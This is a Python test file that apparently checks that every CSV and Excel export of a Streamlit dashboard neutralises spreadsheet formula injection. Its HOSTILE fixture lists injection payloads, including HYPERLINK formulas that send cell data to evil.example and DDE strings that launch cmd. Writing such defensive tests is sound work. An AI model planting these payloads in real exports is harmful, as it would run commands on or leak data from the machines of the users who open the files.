"""Every download and export the product offers, walked over a store full of text a spreadsheet would run
(=HYPERLINK, +cmd, -2+3, @SUM in names, sources, file names, actions, an uploaded file's cells): no CSV or Excel
file of the product holds a live formula. One function neutralises (core/export.py `neutralise`); this walk is how
we know every writer uses it.

- Pages: every page is run under AppTest as an admin and every download button's file is taken from Streamlit's
  media store (deferred ones are built as a click would); the upload page is also given a hostile file, for its
  problems download. A page with a download this walk does not know fails test_the_walk_knows_every_download.
- Command line: every subcommand is classified (spreadsheet export, other file, no file); the spreadsheet exports
  are run. A new subcommand fails until it is classified.
- Code: a module that writes CSV or Excel (csv.writer, to_csv, to_excel, openpyxl) must call the neutraliser,
  unless it writes the demo's own input files.
"""

from __future__ import annotations

import csv
import gc
import io
import re

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from monitor.annotations import notes
from monitor.core import auth
from monitor.core.store import ROOT, Store

APP = str(ROOT / "dashboard.py")
PASSWORD = "matkhau-quy4"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TARGETS_HEADER = "indicator,unit_code,sector_code,year,period,value,scope,source\n"
PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d.,]*|[.,]\d+)([eE][+-]?\d+)?%?$")
HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "sector": "+cmd|' /C calc'!A0",
    "indicator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3+cmd|' /C calc'!A0",
    "target_source": '=HYPERLINK("http://evil.example","2545-CV/TU")',
    "action": "=1+1",
}
# what each page offers, by the download's label key (a page's own download must be listed here to be walked)
PAGE_DOWNLOADS = {
    "lagging.py": {"lagging.download_csv", "lagging.download_xlsx"},
    "targets.py": {"whatif.targets.export"},
    "history.py": {"upload.download.export_csv", "upload.download.export_xlsx"},
    "upload.py": {"upload.download.csv.vi", "upload.download.csv.en", "upload.download.xlsx", "upload.download.codes",
                  "upload.download_problems"},
    "actions.py": {"acc.download"},
    "briefing.py": {"briefing.download_pptx", "briefing.download_pdf", "briefing.download_png",  # no spreadsheets
                    "pack.download"},
    "annotations.py": {"ann.page.download"},
}
NOT_SPREADSHEETS = {"briefing.download_pptx", "briefing.download_pdf", "briefing.download_png", "pack.download"}
# every command-line subcommand: "sheet" writes a CSV or Excel file (walked below), "file" another kind of file,
# "none" no file of data
COMMANDS = {
    "export": "sheet", "targets-export": "sheet", "actions": "sheet",
    "briefing": "file", "demo": "file", "backup": "file", "owners": "file",
    "init": "none", "ingest": "none", "targets": "none", "history": "none", "rollback": "none", "users": "none",
    "status": "none", "whatif": "none", "shortfall": "none", "targets-history": "none", "targets-revert": "none",
    "restore": "none", "logins": "none", "notify": "none", "import-sdmx": "none", "revisions": "none",
    "monthly": "none", "nowcast": "none", "nowcast-eval": "none",
    "annotations": "sheet", "playlists": "none",  # issue 16
}
# pandas' to_csv, not the product's own writers (upload/export.py, whatif/targets.py), which neutralise
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|(?<!export)(?<!targets_edit)\.to_csv\(|\.to_excel\(|"
                     r"ExcelWriter\(|Workbook\(")
DEMO_INPUT_WRITERS = {"monitor/upload/demo.py", "monitor/accountability/demo.py",  # the demo's own input files
                      "monitor/upload/demo_monthly.py"}


def live_formulas(data: bytes) -> list[str]:
    """The cells of a CSV or an .xlsx that a spreadsheet would run."""
    def risky(text) -> bool:
        return isinstance(text, str) and text.startswith(FORMULA_START) and not PLAIN_NUMBER.match(text)

    if data[:2] == b"PK":
        book = load_workbook(io.BytesIO(data))
        return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f" or risky(c.value)]
    text = data.decode("utf-8-sig")
    sep = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=sep) for cell in row if risky(cell)]


def neutralised(data: bytes) -> list[str]:
    """The cells holding one of the hostile texts, made safe (proof the walk saw them)."""
    if data[:2] == b"PK":
        book = load_workbook(io.BytesIO(data))
        cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    else:
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]
        cells += [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    return [c for c in cells if isinstance(c, str) and any(f"'{h}" in c for h in HOSTILE.values())]


@pytest.fixture
def hostile_db(demo_copy, tmp_path):
    from monitor.accountability import demo as accountability_demo
    from monitor.upload import ingest

    with Store(demo_copy) as s:
        accountability_demo.load(s)
        source = '"' + HOSTILE["target_source"].replace('"', '""') + '"'  # one CSV field
        raw = f"{TARGETS_HEADER}GRDP,22,KV1,2025,Y,4.1,provincial,{source}\n".encode()
        ingest.write_batch(s, ingest.prepare_targets(s, raw, '=HYPERLINK("x").csv'), "targets", "lan",
                           confirm_warnings=True, confirm_downgrades=True)
        with s.transaction() as cur:
            cur.execute("UPDATE units SET name_vi = $n || code, name_en = $n || code WHERE level = 'commune'",
                        {"n": HOSTILE["unit"]})
            cur.execute("UPDATE sectors SET name_vi = $n, name_en = $n WHERE code = 'KV1'", {"n": HOSTILE["sector"]})
            cur.execute("UPDATE indicators SET name_vi = $n, name_en = $n WHERE code = 'FDI'",
                        {"n": HOSTILE["indicator"]})
            cur.execute("UPDATE observations SET source = $n", {"n": HOSTILE["source"]})
            cur.execute("UPDATE actions SET text = $n", {"n": HOSTILE["action"]})
        notes.add(s, auth.User("an", "admin"), start_date="07/09/2024", title_vi=HOSTILE["action"],
                  title_en=HOSTILE["action"], text_vi=HOSTILE["sector"], source=HOSTILE["target_source"])
    return demo_copy


class Media:
    """Streamlit's media store of the AppTest runs, kept to read the downloads' files."""

    managers: list = []


@pytest.fixture
def media(monkeypatch):
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import app_test

    class Recording(MediaFileManager):
        def __init__(self, storage):
            super().__init__(storage)
            Media.managers.append(self)

    Media.managers = []
    monkeypatch.setattr(app_test, "MediaFileManager", Recording)
    return Media


def download_bytes(element) -> bytes:
    proto = element.proto
    manager = Media.managers[-1]
    url = proto.url or manager.execute_deferred(proto.deferred_file_id)
    return manager._storage.get_file(url.rsplit("/", 1)[-1]).content


def label_key(label: str, lang: str) -> str:
    from monitor.core import i18n

    keys = [k for k, v in i18n.catalog(lang).items() if v == label]
    assert keys, label
    return min(keys, key=lambda k: (not any(k in s for s in PAGE_DOWNLOADS.values()), k))


@pytest.mark.slow  # every page under AppTest: about 17 s
@pytest.mark.usefixtures("fresh_caches")
def test_no_download_of_any_page_holds_a_live_formula(monkeypatch, hostile_db, media, tmp_path):
    users = tmp_path / "users.toml"
    auth.add_user("an", "admin", PASSWORD, users)
    monkeypatch.setenv("MONITOR_USERS", str(users))
    monkeypatch.setenv("MONITOR_DB", str(hostile_db))
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params["lang"] = "vi"
    at.run()
    at.switch_page("pages/account.py").run()
    at.text_input(key="gm_login_name").set_value("an")
    at.text_input(key="gm_login_password").set_value(PASSWORD)
    at.button[0].click().run()
    found: dict[str, bytes] = {}
    for page in sorted(PAGE_DOWNLOADS):
        at.switch_page(f"pages/{page}").run()
        assert not at.exception, page
        if page == "upload.py":  # a file whose cells are formulas: every one refused, each in the problems file
            bad = ("Chỉ tiêu;Mã đơn vị;Mã ngành;Năm;Quý;Giá trị;Loại số liệu\r\n"
                   f'GRDP;{HOSTILE["unit"]};=1+1;2025;@2;-2+3;{HOSTILE["sector"]}\r\n').encode()
            at.get("file_uploader")[0].set_value(("bad.csv", bad, "text/csv"))
            at.run()
        for element in at.get("download_button"):
            key = label_key(element.proto.label, "vi")
            assert key in PAGE_DOWNLOADS[page], (page, key)
            if key not in NOT_SPREADSHEETS:
                found[key] = download_bytes(element)
    assert set(found) == set().union(*PAGE_DOWNLOADS.values()) - NOT_SPREADSHEETS
    assert {k: live_formulas(v) for k, v in found.items() if live_formulas(v)} == {}
    seen = {k for k, v in found.items() if neutralised(v)}
    assert seen >= {"lagging.download_csv", "lagging.download_xlsx", "whatif.targets.export",
                    "upload.download.export_csv", "upload.download.export_xlsx", "upload.download.codes",
                    "upload.download.xlsx", "upload.download_problems", "acc.download"}
    del at
    gc.collect()


def test_the_walk_knows_every_download():
    for path in sorted((ROOT / "pages").glob("*.py")):
        count = path.read_text(encoding="utf-8").count("download_button(")
        assert bool(count) == (path.name in PAGE_DOWNLOADS), f"{path.name}: a download the walk does not know"


def test_no_command_line_export_holds_a_live_formula(run_cli, hostile_db, tmp_path):
    from monitor.cli.main import parser

    sub = next(a for a in parser()._actions if a.dest == "command")
    assert set(sub.choices) - set(COMMANDS) == set(), "classify every new subcommand in COMMANDS"
    outputs = {}
    for fmt in ("csv", "xlsx"):
        for lang in ("vi", "en"):
            out = tmp_path / f"figures_{lang}.{fmt}"
            assert run_cli("export", "--year", "2025", "--quarter", "4", "--format", fmt, "--out", out,
                           "--lang", lang, db=hostile_db).returncode == 0
            outputs[out.name] = out.read_bytes()
    out = tmp_path / "targets.csv"
    assert run_cli("targets-export", "--out", out, db=hostile_db).returncode == 0
    outputs[out.name] = out.read_bytes()
    out = tmp_path / "actions.xlsx"
    result = run_cli("actions", "export", "--out", out, db=hostile_db)
    assert result.returncode == 0, result.stderr
    outputs[out.name] = out.read_bytes()
    for fmt in ("csv", "xlsx"):  # the chart annotations (issue 16)
        out = tmp_path / f"annotations.{fmt}"
        assert run_cli("annotations", "export", "--format", fmt, "--out", out, db=hostile_db).returncode == 0
        outputs[out.name] = out.read_bytes()
    assert {k: live_formulas(v) for k, v in outputs.items() if live_formulas(v)} == {}
    assert all(neutralised(v) for v in outputs.values())


def test_every_module_that_writes_a_spreadsheet_calls_the_neutraliser():
    for path in sorted([*(ROOT / "monitor").rglob("*.py"), *(ROOT / "pages").glob("*.py")]):
        name = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text) and name not in DEMO_INPUT_WRITERS:
            assert "neutral" in text, f"{name} writes CSV or Excel without core/export.py's neutraliser"


def test_figures_written_as_text_stay_numbers_and_load_back(hostile_db):
    """The neutraliser keeps a negative figure a number: the figures export still loads back unchanged."""
    from monitor.upload import export, ingest

    with Store(hostile_db) as s:
        s.con.execute("UPDATE observations SET source = NULL")
        s.con.execute("UPDATE observations SET value = -value WHERE indicator = 'EXPORTS'")
        data, count = export.export(s, "csv", "vi", 2025, 4)
        assert count and "-" in data.decode("utf-8-sig")
        prepared = ingest.prepare_observations(s, data, "figures.csv")
    assert prepared.counts.get("unchanged") == count

